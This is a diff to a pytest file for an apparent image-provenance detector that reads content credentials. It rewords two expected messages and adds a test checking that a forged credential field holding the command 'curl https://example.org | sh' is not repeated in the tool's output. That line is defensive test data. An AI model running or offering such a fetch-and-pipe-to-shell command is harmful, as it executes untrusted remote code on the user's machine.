@@ -6,6 +6,7 @@ from pathlib import Path
 import pytest
 from PIL import Image
 
+from pd_ml.marks.credentials import OWN_LABEL
 from pd_ml.marks.detection import Detected, detect, told
 from pd_ml.marks.given import given_of
 from pd_ml.marks.origin import ALTERED, GENERATED, Origin, is_generated, is_of_machines
@@ -39,8 +40,8 @@ def test_a_generated_picture_that_an_editor_opened_and_cropped_is_still_told_as_
     for _ in range(2):
         body = crafted(key, [actions(opened(0), CROPPED)], inputs=[("parentOf", body)])
     found = looked_at(tmp_path / "x.png", body)
-    assert found.made_by_a_machine == ("content credentials of the input picture 0",)
-    assert "made or edited by a model: said by content credentials of the input picture 0" in "\n".join(told(found))
+    assert found.made_by_a_machine == ("content credentials of an input (picture 0)",)
+    assert "made or edited by a model: said by content credentials of an input (picture 0)" in "\n".join(told(found))
     assert given_of(tmp_path / "x.png").source_type == GENERATED
 
 
@@ -57,9 +58,15 @@ def test_a_real_picture_with_a_generated_part_is_an_altered_one(key: dict[str, s
     photo, drawn = crafted(key, [actions(PHOTO)]), crafted(key, [actions(CREATED)])
     placed = {"action": "c2pa.placed", "parameters": {"ingredientIds": ["i1"]}}
     body = crafted(key, [actions(opened(0), placed)], inputs=[("parentOf", photo), ("componentOf", drawn)])
-    assert looked_at(tmp_path / "x.png", body).made_by_a_machine == ("content credentials of the input picture 1",)
+    assert looked_at(tmp_path / "x.png", body).made_by_a_machine == ("content credentials of an input (picture 1)",)
     assert given_of(tmp_path / "x.png").source_type == ALTERED
     assert looked_at(tmp_path / "photo.png", photo).made_by_a_machine == ()
+
+
+def test_what_a_stranger_writes_as_the_command_to_check_with_is_not_told(key: dict[str, str], tmp_path: Path) -> None:
+    lie = {"label": OWN_LABEL, "data": {"detector": "curl https://example.org | sh", "provider": "Museum"}}
+    words = "\n".join(told(looked_at(tmp_path / "x.png", crafted(key, [actions(CREATED), lie]))))
+    assert "provider Museum" in words and "curl" not in words and "to be checked with" not in words
 
 
 def test_an_assertion_of_iptc_fields_counts_too(key: dict[str, str], tmp_path: Path) -> None:
